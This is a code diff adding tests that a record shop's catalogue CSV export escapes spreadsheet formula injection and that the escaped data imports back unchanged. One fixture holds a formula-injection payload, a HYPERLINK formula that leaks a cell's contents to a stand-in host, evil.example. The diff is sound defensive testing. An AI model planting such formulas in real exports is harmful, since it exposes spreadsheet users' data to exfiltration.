@@ -1,5 +1,7 @@
+import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import { recordCount, upload, useCatalogueAdmin } from "../../tests/setup/catalogue-admin";
+import { insertRecord } from "../../tests/setup/shop-fixtures";
 import { exportCatalogueCsv } from "./catalogue-export";
 import { createCatalogueImportService, type CatalogueImportService } from "./catalogue-import";
 
@@ -9,6 +11,22 @@ let imports: CatalogueImportService;
 beforeAll(() => {
   imports = createCatalogueImportService(admin.t.db, { importDir: admin.importDir });
 });
+
+const hostileTitle = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+
+/** Records whose text a spreadsheet would take for formulas, and one whose own apostrophe must survive. */
+function insertHostileRecords() {
+  const base = { format: "Vinyl LP", genre: "Jazz", pricePence: 1999, stockQuantity: 3, condition: "new" as const };
+  insertRecord(admin.t.db, { ...base, catalogNumber: "EXP-1", title: hostileTitle, artist: "-M-", label: "@Home" });
+  insertRecord(admin.t.db, { ...base, catalogNumber: "+EXP-2", title: "'Round Midnight", artist: "Miles Davis" });
+  insertRecord(admin.t.db, {
+    ...base,
+    catalogNumber: "EXP-3",
+    title: "'=Quoted",
+    artist: "+Plus",
+    description: "First line\r\nsecond line\nthird",
+  });
+}
 
 describe("the catalogue's export", () => {
   it("exports the whole catalogue in the import's columns", async () => {
@@ -22,5 +40,38 @@ describe("the catalogue's export", () => {
     const preview = await imports.previewImport(upload(csv));
     expect(preview.plan.counts.update).toBe(0);
     expect(preview.plan.counts.create).toBe(0);
+  });
+});
+
+describe("the catalogue's export of text a spreadsheet would run", () => {
+  beforeAll(insertHostileRecords);
+
+  it("writes every text cell a spreadsheet would run as a formula with an apostrophe in front", () => {
+    const [header, ...rows] = parse(exportCatalogueCsv(admin.t.db)) as string[][];
+    const col = (name: string) => header!.indexOf(name);
+    const row = (catalogNumber: string) => rows.find((r) => r[col("catalogue_number")] === catalogNumber)!;
+    expect(row("EXP-1")[col("title")]).toBe(`'${hostileTitle}`);
+    expect(row("EXP-1")[col("artist")]).toBe("'-M-");
+    expect(row("EXP-1")[col("label")]).toBe("'@Home");
+    expect(row("'+EXP-2")[col("title")]).toBe("'Round Midnight");
+    expect(row("EXP-3")[col("title")]).toBe("''=Quoted");
+    // The shop's own figures are written as they are.
+    expect(row("EXP-1")[col("price")]).toBe("19.99");
+    expect(row("EXP-1")[col("stock")]).toBe("3");
+    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("imports back unchanged: the apostrophes the export added are taken off again, and only those", async () => {
+    const { plan } = await imports.previewImport(upload(exportCatalogueCsv(admin.t.db)));
+    const mine = plan.rows.filter(
+      (r) => r.action !== "error" && ["EXP-1", "+EXP-2", "EXP-3"].includes(r.fields.catalogNumber ?? ""),
+    );
+    expect(mine.map((r) => r.action)).toEqual(["unchanged", "unchanged", "unchanged"]);
+    expect(mine.map((r) => r.action === "unchanged" && [r.fields.title, r.fields.artist])).toEqual([
+      [hostileTitle, "-M-"],
+      ["'Round Midnight", "Miles Davis"],
+      ["'=Quoted", "+Plus"],
+    ]);
+    expect(plan.counts.create).toBe(0);
   });
 });
